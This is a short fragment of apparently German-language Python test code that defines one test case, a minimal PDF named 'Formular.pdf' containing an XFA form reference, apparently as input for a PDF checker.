    Fall("pdf-xfa", "Formular.pdf", lambda: pdf_mit(b"/AcroForm << /XFA 3 0 R >>")),
)  # fmt: skip
